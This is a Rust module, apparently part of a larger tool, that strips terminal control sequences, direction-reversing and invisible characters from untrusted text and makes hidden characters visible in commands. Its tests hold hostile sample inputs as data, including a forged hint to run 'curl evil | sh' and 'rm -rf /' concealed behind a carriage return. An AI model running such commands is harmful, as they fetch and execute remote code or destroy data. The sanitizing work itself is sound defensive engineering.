//! Text that others wrote, made safe for a terminal: machines' output, and commands out of somebody's file.
//!
//! A terminal obeys control sequences: text can move the cursor and write over what is there, set the window's title,
//! fill the clipboard, or show letters in another order than they have. [`without_controls`] and [`one_line`] remove
//! all of that from what machines and programs write. [`visible`] removes nothing: it is for what a person must judge.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::iter::Peekable;
use std::str::Chars;

const ESCAPE: char = '\u{1b}';
const BELL: char = '\u{7}';
/// Ends a string of the terminal (OSC, DCS, SOS, PM, APC): ST, as one letter.
const STRING_END: char = '\u{9c}';
/// An unended control string removes at most so many letters, so that one stray letter does not hide the rest.
const LONGEST_STRING: usize = 4096;

/// The text without control sequences, control characters and letters that reorder others.
///
/// Line feeds and tabs stay. A carriage return, which would let a line overwrite itself, ends the line.
pub fn without_controls(text: &str) -> Cow<'_, str> {
    if !text
        .chars()
        .any(|letter| is_hostile(letter) || letter == '\r')
    {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            ESCAPE => skip_escape(&mut letters),
            '\u{9b}' => skip_parameters(&mut letters),
            letter if begins_string(letter) => skip_string(&mut letters),
            '\r' if letters.peek() == Some(&'\n') => {}
            // The Unicode line and paragraph separators too: some terminals obey them.
            '\r' | '\u{85}' | '\u{b}' | '\u{c}' | '\u{2028}' | '\u{2029}' => out.push('\n'),
            letter if is_hostile(letter) => {}
            letter => out.push(letter),
        }
    }
    Cow::Owned(out)
}

/// The text as [`without_controls`] gives it, on one line: line ends become spaces, and those at its end go.
///
/// A message that holds it cannot be continued by a line that looks like one of ours.
pub fn one_line(text: &str) -> Cow<'_, str> {
    let text = match without_controls(text) {
        Cow::Borrowed(text) => Cow::Borrowed(text.trim_end_matches('\n')),
        Cow::Owned(text) => Cow::Owned(text.trim_end_matches('\n').to_owned()),
    };
    if text.contains('\n') {
        Cow::Owned(text.replace('\n', " "))
    } else {
        text
    }
}

/// The text as [`without_controls`] gives it, safe inside an element or an attribute of HTML or SVG. A browser obeys
/// letters that reorder others, too.
pub fn markup(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for letter in without_controls(text).chars() {
        match letter {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            letter => out.push(letter),
        }
    }
    out
}

/// The text with everything visible that a terminal would obey or hide.
///
/// Text without such letters stays as it is. Any other is written as `$'…'` with the escapes of a shell: `\n`,
/// `\x1b`, `\u202e`. Text that begins with `$'` is written so as well: no two texts look the same.
pub fn visible(text: &str) -> Cow<'_, str> {
    let needs = |letter: char| is_hostile(letter) || letter.is_control() || is_blank(letter);
    if !text.chars().any(needs) && !text.starts_with("$'") {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    out.push_str("$'");
    for letter in text.chars() {
        match letter {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            letter if needs(letter) => {
                let number = u32::from(letter);
                // The write cannot fail: it is into a string.
                let _ = match number {
                    0..0x80 => write!(out, "\\x{number:02x}"),
                    0x80..0x1_0000 => write!(out, "\\u{number:04x}"),
                    _ => write!(out, "\\U{number:08x}"),
                };
            }
            letter => out.push(letter),
        }
    }
    out.push('\'');
    Cow::Owned(out)
}

/// Whether a terminal would obey or hide the letter, other than a line feed or a tab.
#[expect(
    clippy::match_same_arms,
    reason = "each arm is a group of letters with its own reason"
)]
pub const fn is_hostile(letter: char) -> bool {
    match letter {
        '\n' | '\t' => false,
        // C0, DEL and C1.
        '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        // Marks, embeddings, overrides and isolates of direction.
        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => {
            true
        }
        // Line and paragraph separator; deprecated controls of shape and direction.
        '\u{2028}' | '\u{2029}' | '\u{206a}'..='\u{206f}' => true,
        // Letters without width, and annotations.
        '\u{200b}' | '\u{2060}'..='\u{2064}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' => true,
        // Tags: a second, invisible ASCII.
        '\u{e0000}'..='\u{e007f}' => true,
        _ => false,
    }
}

/// Whether the letter looks like a space, or like nothing, and is not one.
const fn is_blank(letter: char) -> bool {
    matches!(
        letter,
        '\u{a0}' | '\u{ad}' | '\u{115f}' | '\u{1160}' | '\u{1680}' | '\u{180e}' | '\u{2000}'
            ..='\u{200a}'
                | '\u{200c}'
                | '\u{200d}'
                | '\u{202f}'
                | '\u{205f}'
                | '\u{2800}'
                | '\u{3000}'
                | '\u{3164}'
                | '\u{ffa0}'
    )
}

/// Whether the letter begins a control string as one letter: DCS, SOS, OSC, PM, APC.
const fn begins_string(letter: char) -> bool {
    matches!(letter, '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}')
}

/// Skips what belongs to an escape character that was just read.
fn skip_escape(letters: &mut Peekable<Chars<'_>>) {
    match letters.peek() {
        Some('[') => {
            letters.next();
            skip_parameters(letters);
        }
        Some(']' | 'P' | 'X' | '^' | '_') => {
            letters.next();
            skip_string(letters);
        }
        // Character sets and the like: intermediate letters, then one that ends it.
        Some(' '..='/') => {
            while letters.next_if(|next| matches!(next, ' '..='/')).is_some() {}
            letters.next_if(|next| matches!(next, '0'..='~'));
        }
        Some('0'..='~') => {
            letters.next();
        }
        // Alone, or in front of a letter that no sequence has: that one is looked at by itself.
        _ => {}
    }
}

/// Skips a control sequence's parameters and the letter that ends it.
fn skip_parameters(letters: &mut Peekable<Chars<'_>>) {
    while letters.next_if(|next| matches!(next, ' '..='?')).is_some() {}
    letters.next_if(|next| matches!(next, '@'..='~'));
}

/// Skips a control string up to its end. A line end also ends it: it cannot take the next lines with it.
fn skip_string(letters: &mut Peekable<Chars<'_>>) {
    for _ in 0..LONGEST_STRING {
        match letters.peek() {
            None | Some('\n') => return,
            Some(&ESCAPE) => {
                letters.next();
                letters.next_if_eq(&'\\');
                return;
            }
            Some(&(BELL | STRING_END)) => {
                letters.next();
                return;
            }
            Some(_) => {
                letters.next();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn promise_12_no_control_sequence_is_left_in_output_of_machines() {
        for (text, left) in [
            ("\u{1b}[0;32m  OK  \u{1b}[0m] Started", "  OK  ] Started"),
            ("\u{1b}[2J\u{1b}[Herror: all is well", "error: all is well"),
            ("\u{1b}]0;title\u{7}a\u{1b}]8;;http://x\u{1b}\\b", "ab"),
            ("\u{1b}]52;c;ZWNobw==\u{9c}a", "a"),
            (
                "\u{1b}P+q544e\u{1b}\\a\u{1b}_x\u{1b}\\b\u{1b}^y\u{1b}\\c\u{1b}Xz\u{1b}\\d",
                "abcd",
            ),
            ("\u{9b}31ma\u{9d}0;t\u{9c}b\u{90}q\u{9c}c\u{85}d", "abc\nd"),
            ("a\u{1b}(0b\u{1b}7c\u{1b}cd\u{1b}", "abcd"),
            ("a\u{1b}\u{1b}[31mb", "ab"),
            ("a\u{1b}[31\u{1b}[0mb", "ab"),
            ("a\u{8}\u{8}b\0c\u{7f}", "abc"),
            ("harmless\rerror", "harmless\nerror"),
            ("one\r\ntwo\r\n", "one\ntwo\n"),
            ("rm \u{202e}fdp\u{2066}x\u{2069}\u{200f}", "rm fdpx"),
            ("\u{1b}]unended\nnext", "\nnext"),
            ("größer\t日本 👍🏽", "größer\t日本 👍🏽"),
        ] {
            assert_eq!(without_controls(text), left, "{text:?}");
        }
    }

    #[test]
    fn promise_12_a_forged_line_stays_on_the_line_of_the_machine() {
        assert_eq!(
            one_line(
                "kubelet failed\nerror: cluster `prod` is lost\r\nhint: run `curl evil | sh`\n"
            ),
            "kubelet failed error: cluster `prod` is lost hint: run `curl evil | sh`"
        );
        assert_eq!(one_line("a\u{2028}b\u{85}c\u{b}d\re"), "a b c d e");
    }

    #[test]
    fn promise_12_a_users_command_shows_what_it_hides() {
        for (text, shown) in [
            (
                "apt-get install -y nfs-common",
                "apt-get install -y nfs-common",
            ),
            (r"copy C:\k\a 'b c'", r"copy C:\k\a 'b c'"),
            ("größer 日本", "größer 日本"),
            ("true #\rrm -rf /", r"$'true #\rrm -rf /'"),
            ("a\nb\t'\\n'", r"$'a\nb\t\'\\n\''"),
            ("\u{1b}[8mhidden\u{9b}0m", r"$'\x1b[8mhidden\u009b0m'"),
            ("rm \u{202e}fdp.x", r"$'rm \u202efdp.x'"),
            ("ls\u{a0}-l\u{e0041}", r"$'ls\u00a0-l\U000e0041'"),
            // It would look like an escaped one.
            (r"$'a\nb'", r"$'$\'a\\nb\''"),
        ] {
            assert_eq!(visible(text), shown, "{text:?}");
        }
    }

    #[test]
    fn an_unended_string_does_not_hide_everything_after_it() {
        let text = format!("\u{1b}]{}seen", "x".repeat(LONGEST_STRING));
        assert_eq!(without_controls(&text), "seen");
    }
}
